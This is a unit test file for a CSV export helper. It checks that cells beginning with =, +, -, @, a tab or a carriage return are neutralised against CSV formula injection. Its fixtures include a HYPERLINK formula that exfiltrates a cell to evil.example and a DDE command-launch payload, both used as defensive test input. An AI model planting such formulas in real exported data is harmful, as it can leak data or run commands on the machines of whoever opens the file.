import { csvDocument, csvField, neutraliseFormula } from './csv';

describe('CSV cells a spreadsheet never runs (OWASP CSV injection)', () => {
  it.each([
    ['=', '=HYPERLINK("https://evil.example/?x="&A1)', `"'=HYPERLINK(""https://evil.example/?x=""&A1)"`],
    ['+', "+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
    ['-', '-2+3', `'-2+3`],
    ['@', '@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['a tab', '\t=1+1', `'\t=1+1`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('a string starting with %s gets a leading quote', (_, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('leaves a formula character inside the text alone', () => {
    expect(csvField('a=b, c-d')).toBe('"a=b, c-d"');
    expect(neutraliseFormula('user@example.org')).toBe('user@example.org');
  });

  it('keeps genuine negative numbers readable as numbers', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvDocument([['amount'], [-3]])).toBe('amount\r\n-3\r\n');
  });

  it('quotes semicolons for spreadsheets in French locales, and doubles quotes', () => {
    expect(csvField('a; b')).toBe('"a; b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });
});
